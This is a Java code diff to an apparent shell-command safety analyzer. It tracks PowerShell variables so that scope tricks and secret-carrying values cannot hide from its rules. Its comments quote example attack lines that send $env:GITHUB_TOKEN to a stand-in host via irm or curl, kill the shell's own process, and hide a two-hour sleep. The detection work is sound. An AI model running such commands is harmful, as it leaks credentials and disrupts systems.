@@ -149,7 +149,7 @@ final class PsValues {
     private final java.util.Set<String> otherAssignment = new java.util.HashSet<>();
     private boolean indirect = true;
     /** The numbers variables may hold, assignment by assignment ({@link #number}). */
-    private final PsHeldNumbers numbers = new PsHeldNumbers();
+    private PsHeldNumbers numbers = new PsHeldNumbers();
     /** How many child scopes ({@code & { … }}, function bodies) enclose the statements walked now. */
     private int childScopes;
     /** How many times the block walked now runs, when known ({@link #inBlock}); 0 otherwise. */
@@ -174,6 +174,61 @@ final class PsValues {
     }
 
     /**
+     * The variables a child frame walked now assigned ({@link #inChildFrame}); null outside one.
+     */
+    private java.util.Set<String> frameKeys;
+
+    /**
+     * Runs {@code walk} as a child scope run once, in order, where it stands ({@code & { … }} as a
+     * whole statement): its statements read and assign a copy of the caller's values, as a child
+     * scope reads the caller's variables and assigns its own ({@code $d *= 2} in it starts from the
+     * caller's $d). WHY: {@code & { $d = (1, (2, 7200))[1][1]; Start-Sleep $d }} sleeps two hours
+     * and was taken as a sleep of a value from outside. Afterwards the caller's values are as they
+     * were; every assignment walked in the frame counts as walked for the caller (so its reads stay
+     * computed), and one written with a shared scope ({@code $script:d}), which sets the caller's
+     * variable, makes it unknown (fail closed).
+     */
+    void inChildFrame(Runnable walk) {
+        PsHeldNumbers outer = numbers;
+        java.util.Set<String> outerKeys = frameKeys;
+        java.util.Set<String> outerShared = sharedInFrame;
+        Map<String, Integer> outerPlain = new HashMap<>(plainAtTop);
+        java.util.Set<String> mine = new java.util.HashSet<>();
+        java.util.Set<String> shared = new java.util.HashSet<>();
+        numbers = outer.copy();
+        frameKeys = mine;
+        sharedInFrame = shared;
+        try {
+            walk.run();
+        } finally {
+            PsHeldNumbers inner = numbers;
+            numbers = outer;
+            frameKeys = outerKeys;
+            sharedInFrame = outerShared;
+            outer.walkedIn(inner);
+            plainAtTop.clear();
+            plainAtTop.putAll(outerPlain);
+            for (String key : mine) {
+                // the caller's variable keeps its value: what the frame left is no sound reading of it
+                lastAtTop.put(key, false);
+                otherAssignment.add(key);
+                if (outerKeys != null) {
+                    outerKeys.add(key);
+                }
+            }
+            for (String key : shared) {
+                outer.forget(key);
+                if (outerShared != null) {
+                    outerShared.add(key);
+                }
+            }
+        }
+    }
+
+    /** Variables the child frame walked now assigned through a shared scope ({@code $script:d = …}); null outside one. */
+    private java.util.Set<String> sharedInFrame;
+
+    /**
      * Runs {@code walk} as a block run {@code times} times in this scope ({@code 1..3 | % { … }},
      * {@code . { … }}): a compound assignment in it is applied pass by pass; 0 for an unknown count.
      */
@@ -189,6 +244,7 @@ final class PsValues {
 
     /** Counts the assignments of every variable in the whole text, before the walk. */
     void scan(String text) {
+        whole = text;
         Matcher set = SET_VARIABLE.matcher(text);
         while (set.find()) {
             assignments.merge(set.group(3).toLowerCase(Locale.ROOT), 1, Integer::sum);
@@ -299,6 +355,12 @@ final class PsValues {
         String key = key(raw);
         if (key == null) {
             return;
+        }
+        if (frameKeys != null) {
+            frameKeys.add(key);
+            if (SHARED_SCOPE.matcher(PsText.bare(raw)).find()) {
+                sharedInFrame.add(key);
+            }
         }
         if (childScopes > 0 && !SHARED_SCOPE.matcher(PsText.bare(raw)).find()) {
             // `& { $d = 7200 }`, a function body: a new variable of the child scope, the caller's keeps its values
@@ -427,6 +489,119 @@ final class PsValues {
             boolean shared = m.group(5).toLowerCase(Locale.ROOT).matches("(?s).*-scope\\s+(?:global|script).*");
             assigned((shared ? "$script:" : "$") + m.group(3), null, top, "=", v == null ? null : PsHeldValue.ofNumber(v.asNumber()));
         }
+    }
+
+    /**
+     * A reading that must reach the rules wherever its value is used: a secret-named environment
+     * variable ({@code $env:GITHUB_TOKEN}, {@link dev.shellwarden.grammar.SecretNames}) or the
+     * shell's own process id ({@code $PID}).
+     */
+    private static final Pattern CARRIED_SOURCE = Pattern.compile(
+            "(?i)\\$\\{?(?:env:" + dev.shellwarden.grammar.SecretNames.VARIABLE + "|pid)\\}?(?![A-Za-z0-9_:])");
+    /** A variable reference in an expression or a word, with a scope or not (the name in group 1). */
+    private static final Pattern REFERENCE = Pattern.compile(
+            "(?i)\\$\\{?(?:(?:global|script|local|private):)?([A-Za-z_][A-Za-z0-9_]*)\\}?(?![A-Za-z0-9_:])");
+    /** A right-hand side that is one token, carried as it is; any other is carried in parentheses. */
+    private static final Pattern ONE_TOKEN = Pattern.compile("(?i)^\\$\\{?[A-Za-z_:][A-Za-z0-9_:]*\\}?$");
+
+    /**
+     * The variables whose value holds a {@link #CARRIED_SOURCE} reading, each with the expression
+     * that computed it, every carried variable in it replaced by its own expression. WHY: {@code $u =
+     * 'https://x.example/?t=' + $env:GITHUB_TOKEN; irm $u} and {@code $i = $PID; Stop-Process $i}
+     * hid from the rules what {@code irm ('https://x.example/?t=' + $env:GITHUB_TOKEN)} and {@code
+     * Stop-Process $PID} show them (bash's {@code T=$GITHUB_TOKEN; curl …$T} is read the same way:
+     * a second reading with the value's text). INVARIANT (fail closed): only a plain top-level
+     * {@code =} of a value carrying nothing forgets a variable; an assignment in a block, a branch
+     * or a child scope may not run, so the older reading stays.
+     */
+    private final Map<String, String> carried = new HashMap<>();
+
+    /**
+     * Variable {@code raw} was assigned {@code rhs} (its source text) with {@code op}: remembers it
+     * when it carries a {@link #CARRIED_SOURCE} reading, directly or through another carried variable.
+     */
+    void carry(String raw, String op, String rhs, boolean top) {
+        String key = key(raw);
+        if (key == null) {
+            return;
+        }
+        // `$u = 'https://x.example/?t='; $u += $env:GITHUB_TOKEN`: the value before, as assigned
+        String before = carried.containsKey(key) ? carried.get(key)
+                : sources.containsKey(key) ? "(" + sources.get(key) + ")" : "$" + key;
+        if (op.equals("=") && top && childScopes == 0 && frameKeys == null && PsText.bare(raw).indexOf(':') < 0) {
+            sources.put(key, rhs.strip());
+        } else {
+            sources.remove(key);
+        }
+        String text = carriedText(rhs.strip());
+        if (!op.equals("=")) {
+            // `$u += $env:GITHUB_TOKEN`: the old value joined with the new one
+            text = before + " " + op.charAt(0) + " (" + text + ")";
+        }
+        if (CARRIED_SOURCE.matcher(text).find()) {
+            carried.put(key, ONE_TOKEN.matcher(text).matches() ? text : "(" + text + ")");
+        } else if (op.equals("=") && top && childScopes == 0 && frameKeys == null) {
+            carried.remove(key);
+        }
+    }
+
+    /** The right-hand side of each variable's plain top-level {@code =} walked last ({@link #source}). */
+    private final Map<String, String> sources = new HashMap<>();
+    /** The whole text walked ({@link #scan}), for {@link #source}. */
+    private String whole = "";
+
+    /**
+     * The expression variable {@code name} was assigned, for an index or a member of it to be read
+     * from it ({@code $a = 1, 5; Start-Sleep $a[1]}, {@code $h = @{ a = 5 }; Start-Sleep $h.a}), or
+     * null. INVARIANT (fail closed): read here at the top level with no indirect write in the text,
+     * the variable is assigned once in the whole text by a plain top-level {@code =} walked before,
+     * and every other use of it is an index or a member read ({@code $h.a}, {@code $a[1]}), never
+     * written ({@code $h.a = 7200}, {@code $a[1] = 7200}), called ({@code $h.Add(…)}) nor handed
+     * whole to a command or a function, which could change the array or table in place.
+     */
+    String source(String name, boolean top) {
+        String key = name.toLowerCase(Locale.ROOT);
+        String src = sources.get(key);
+        if (src == null || !top || indirect || assignments.getOrDefault(key, 0) != 1) {
+            return null;
+        }
+        Matcher use = Pattern.compile("(?i)\\$\\{?(?:(?:global|script|local|private|variable):)?" + Pattern.quote(key) + "(?![A-Za-z0-9_])\\}?").matcher(whole);
+        int plain = 0;
+        while (use.find()) {
+            String after = whole.substring(use.end());
+            Matcher read = Pattern.compile("^(?:\\[[^\\]\\[]*\\]|\\.[A-Za-z_][A-Za-z0-9_]*)+").matcher(after);
+            if (read.find()) {
+                String rest = after.substring(read.end());
+                if (rest.matches("(?s)^\\s*(?:[-+*/%?]?=(?!=)|\\+\\+|--|\\().*")) {
+                    return null;
+                }
+            } else if (++plain > 1 || !after.matches("(?s)^\\s*=(?!=).*")) {
+                // the one plain use is the assignment itself
+                return null;
+            }
+        }
+        return src;
+    }
+
+    /**
+     * {@code text} with every carried variable ({@link #carried}) replaced by the expression it
+     * holds ({@code irm $u} reads as {@code irm ('https://x.example/?t=' + $env:GITHUB_TOKEN)}); the
+     * same string when it names none.
+     */
+    String carriedText(String text) {
+        if (carried.isEmpty() || text.indexOf('$') < 0) {
+            return text;
+        }
+        Matcher m = REFERENCE.matcher(text);
+        StringBuilder b = new StringBuilder();
+        boolean changed = false;
+        while (m.find()) {
+            String value = carried.get(m.group(1).toLowerCase(Locale.ROOT));
+            m.appendReplacement(b, Matcher.quoteReplacement(value != null ? value : m.group()));
+            changed |= value != null;
+        }
+        m.appendTail(b);
+        return changed ? b.toString() : text;
     }
 
     /** The lower-case name of a plain variable ({@code $v}, {@code ${v}}, {@code $script:v}), or null. */
